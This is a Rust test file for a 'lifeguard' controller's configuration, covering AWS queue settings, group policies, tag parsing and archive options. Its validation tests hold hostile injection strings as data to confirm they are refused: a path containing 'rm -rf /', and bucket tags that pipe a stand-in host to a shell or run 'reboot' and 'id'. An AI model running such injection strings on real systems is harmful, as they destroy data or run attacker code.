use std::path::PathBuf;

use super::*;

fn parse(text: &str) -> Result<ControllerConfig, String> {
    let path = PathBuf::from("/etc/lifeguard/controller.toml");
    let mut config: ControllerConfig =
        lifeguard_common::config::parse_toml(&path, text).map_err(|e| e.to_string())?;
    config.apply_env(&HashMap::new());
    config.validate(&path).map_err(|e| e.to_string())?;
    Ok(config)
}

fn tags(pairs: &[(&str, &str)]) -> HashMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

const MINIMAL: &str = "[queue]\nurl = \"https://sqs.eu-west-1.amazonaws.com/1/q\"\n";

#[test]
fn the_minimal_file_takes_every_default() {
    let config = parse(MINIMAL).unwrap();
    assert_eq!(config.queue.workers, 8);
    assert_eq!(config.groups.tag, DEFAULT_MANAGED_TAG);
    let policy = config.policy_for("web", &HashMap::new()).unwrap();
    assert_eq!(policy.fallback_result, LifecycleResult::Abandon);
    assert_eq!(policy.agent_grace, Duration::from_secs(60));
    assert!(policy.heartbeat_while_waiting);
    assert!(policy.agentless_archive.is_none());
}

#[test]
fn unknown_keys_and_bad_values_name_the_key() {
    let error = parse(&format!("{MINIMAL}[queue.extra]\n")).unwrap_err();
    assert!(error.contains("queue"), "{error}");
    let error = parse(&format!(
        "{MINIMAL}[groups.defaults]\nfallback = \"CONTINUE\"\n"
    ))
    .unwrap_err();
    assert!(error.contains("unknown field `fallback`"), "{error}");
    let error = parse("[queue]\nworkers = 2\n").unwrap_err();
    assert!(
        error.contains("queue.url") && error.contains(ENV_QUEUE_URL),
        "{error}"
    );
    let error = parse(&format!("{MINIMAL}[http]\nlisten = \"nine\"\n")).unwrap_err();
    assert!(error.contains("http.listen"), "{error}");
    let error = parse(&format!(
        "{MINIMAL}[groups.override.web]\nagent_grace_secs = 0\n"
    ))
    .unwrap_err();
    assert!(error.contains("groups.override.web"), "{error}");
}

#[test]
fn the_environment_overrides_the_file() {
    let path = PathBuf::from("/etc/lifeguard/controller.toml");
    let mut config: ControllerConfig =
        lifeguard_common::config::parse_toml(&path, MINIMAL).unwrap();
    let env = tags(&[
        (ENV_QUEUE_URL, "http://127.0.0.1:4566/1/other"),
        (ENV_REGION, "us-west-2"),
        (ENV_ENDPOINT_URL, "http://127.0.0.1:4566"),
    ]);
    config.apply_env(&env);
    assert_eq!(
        config.queue.url.as_deref(),
        Some("http://127.0.0.1:4566/1/other")
    );
    assert_eq!(config.aws.region.as_deref(), Some("us-west-2"));
    assert_eq!(
        config.aws.endpoint_url.as_deref(),
        Some("http://127.0.0.1:4566")
    );
}

#[test]
fn a_group_policy_layers_defaults_override_and_tags() {
    let config = parse(&format!(
        "{MINIMAL}[groups.defaults]\nagent_grace_secs = 30\nfallback_result = \"CONTINUE\"\n\n\
         [groups.override.web]\nagent_grace_secs = 90\n"
    ))
    .unwrap();
    let web = config.policy_for("web", &HashMap::new()).unwrap();
    assert_eq!(web.agent_grace, Duration::from_secs(90));
    assert_eq!(web.fallback_result, LifecycleResult::Continue);
    let tagged = config
        .policy_for(
            "web",
            &tags(&[
                ("lifeguard:fallback-result", "abandon"),
                ("lifeguard:heartbeat-while-waiting", "false"),
            ]),
        )
        .unwrap();
    assert_eq!(tagged.fallback_result, LifecycleResult::Abandon);
    assert!(!tagged.heartbeat_while_waiting);
    assert_eq!(tagged.agent_grace, Duration::from_secs(90));
    let other = config.policy_for("api", &HashMap::new()).unwrap();
    assert_eq!(other.agent_grace, Duration::from_secs(30));
    assert!(other.agentless_archive.is_none());
}

#[test]
fn a_bad_policy_tag_is_refused_with_its_name() {
    let config = parse(MINIMAL).unwrap();
    let error = config
        .policy_for("web", &tags(&[("lifeguard:agent-grace-secs", "soon")]))
        .unwrap_err();
    assert!(error.contains("lifeguard:agent-grace-secs"), "{error}");
    let error = config
        .policy_for("web", &tags(&[("lifeguard:fallback-result", "MAYBE")]))
        .unwrap_err();
    assert!(error.contains("CONTINUE or ABANDON"), "{error}");
}

#[test]
fn managed_groups_by_tag_or_name() {
    let config = parse(&format!("{MINIMAL}[groups]\nnames = [\"legacy\"]\n")).unwrap();
    assert!(config.manages("legacy", &HashMap::new()));
    assert!(config.manages("web", &tags(&[("lifeguard:managed", "true")])));
    assert!(config.manages("web", &tags(&[("lifeguard:managed", "")])));
    assert!(!config.manages("web", &tags(&[("lifeguard:managed", "false")])));
    assert!(!config.manages("web", &tags(&[("team", "web")])));
}

#[test]
fn the_agentless_archive_takes_a_bucket_and_plain_paths() {
    let config = parse(&format!(
        "{MINIMAL}[groups.override.web]\narchive_bucket = \"logs\"\nagentless_archive_paths = [\"/var/log/app\", \"/srv/log\"]\n"
    ))
    .unwrap();
    let web = config.policy_for("web", &HashMap::new()).unwrap();
    let archive = web.agentless_archive.unwrap();
    assert_eq!(archive.bucket, "logs");
    assert_eq!(archive.paths, ["/var/log/app", "/srv/log"]);
    let tagged = config
        .policy_for("api", &tags(&[("lifeguard:archive-bucket", "other-logs")]))
        .unwrap();
    assert_eq!(
        tagged.agentless_archive.unwrap().paths,
        ["/var/log"],
        "the default paths"
    );
    for bad in ["\"var/log\"", "\"/var/log; rm -rf /\"", "\"/var/../etc\""] {
        let error = parse(&format!(
            "{MINIMAL}[groups.defaults]\narchive_bucket = \"logs\"\nagentless_archive_paths = [{bad}]\n"
        ))
        .unwrap_err();
        assert!(error.contains("agentless_archive_paths"), "{error}");
    }
}

#[test]
fn an_injected_archive_bucket_tag_is_refused_and_the_configured_policy_stands() {
    let config = parse(&format!(
        "{MINIMAL}[groups.defaults]\narchive_bucket = \"fleet-logs\"\n"
    ))
    .unwrap();
    for hostile in [
        "x'; curl http://evil.example/x | sh; echo '",
        "logs$(reboot)",
        "logs`id`",
        "Logs",
        "a",
        "logs..x",
        "192.168.1.1",
        "-logs",
    ] {
        let error = config
            .policy_for("web", &tags(&[("lifeguard:archive-bucket", hostile)]))
            .unwrap_err();
        assert!(error.contains("archive_bucket"), "{hostile}: {error}");
    }
    assert!(
        config
            .policy_for(
                "web",
                &tags(&[("lifeguard:archive-bucket", "other.logs-2")])
            )
            .is_ok()
    );
}

#[test]
fn absurd_durations_are_refused_from_tags_and_the_file() {
    let config = parse(MINIMAL).unwrap();
    for (key, value) in [
        ("lifeguard:agent-grace-secs", "18446744073709551615"),
        ("lifeguard:report-silence-secs", "9999999999"),
        ("lifeguard:agent-grace-secs", "0"),
        ("lifeguard:agentless-archive-timeout-secs", "7201"),
        ("lifeguard:agentless-archive-timeout-secs", "5"),
    ] {
        let error = config
            .policy_for("web", &tags(&[(key, value)]))
            .unwrap_err();
        assert!(error.contains("outside"), "{key}={value}: {error}");
    }
    let error = parse(&format!(
        "{MINIMAL}[groups.defaults]\nreport_silence_secs = 18446744073709551615\n"
    ))
    .unwrap_err();
    assert!(error.contains("report_silence_secs"), "{error}");
    let limits = config
        .policy_for("web", &tags(&[("lifeguard:report-silence-secs", "7200")]))
        .unwrap();
    assert_eq!(limits.report_silence, Duration::from_secs(7200));
}

#[test]
fn every_aws_attempt_is_bounded_unless_configured_longer_than_a_long_poll() {
    let config = parse(MINIMAL).unwrap();
    assert_eq!(
        config.aws_settings().attempt_timeout_secs,
        Some(DEFAULT_ATTEMPT_TIMEOUT_SECS)
    );
    let longer = parse(&format!("{MINIMAL}[aws]\nattempt_timeout_secs = 45\n")).unwrap();
    assert_eq!(longer.aws_settings().attempt_timeout_secs, Some(45));
    let error = parse(&format!("{MINIMAL}[aws]\nattempt_timeout_secs = 10\n")).unwrap_err();
    assert!(error.contains("long polls"), "{error}");
}

#[test]
fn the_images_table_is_checked_and_defaults_to_latest() {
    let config = parse(MINIMAL).unwrap();
    assert_eq!(config.images.new_group_version, NewGroupVersion::Latest);
    assert_eq!(config.images.marker, "lifeguard:release");
    let config = parse(&format!(
        "{MINIMAL}[images]\nnew_group_version = \"unchanged\"\nkeep = 3\n\
         [images.ssm_parameters]\nweb = \"/lifeguard/web/latestAmi\"\n"
    ))
    .unwrap();
    assert_eq!(config.images.new_group_version, NewGroupVersion::Unchanged);
    assert_eq!(config.images.keep, 3);
    for (bad, key) in [
        ("marker = \"x y\"", "images.marker"),
        ("keep = 0", "images.keep"),
        ("available_within_secs = 10", "images.available_within_secs"),
        ("new_group_version = \"7\"", "new_group_version"),
        (
            "[images.ssm_parameters]\nweb = \"latestAmi\"",
            "images.ssm_parameters.web",
        ),
    ] {
        let error = parse(&format!("{MINIMAL}[images]\n{bad}\n")).unwrap_err();
        assert!(error.contains(key), "{bad}: {error}");
    }
}

#[test]
fn pacing_takes_aws_figures_and_refuses_rates_that_would_stall() {
    let config = parse(MINIMAL).unwrap();
    let rates = config.pacing.rates();
    assert_eq!(rates[crate::pace::EC2_READS], crate::pace::EC2_READ);
    assert_eq!(rates[crate::pace::EC2_WRITES], crate::pace::EC2_WRITE);
    assert_eq!(rates[crate::pace::AUTOSCALING], crate::pace::EC2_WRITE);
    let off = parse(&format!("{MINIMAL}[pacing]\nenabled = false\n")).unwrap();
    assert!(off.pacing.rates().is_empty());
    for bad in [
        "autoscaling_per_sec = 0.0",
        "ec2_read_burst = 0",
        "ec2_write_per_sec = nan",
        "autoscaling_per_sec = inf",
    ] {
        let error = parse(&format!("{MINIMAL}[pacing]\n{bad}\n")).unwrap_err();
        assert!(error.contains("pacing."), "{bad}: {error}");
    }
}
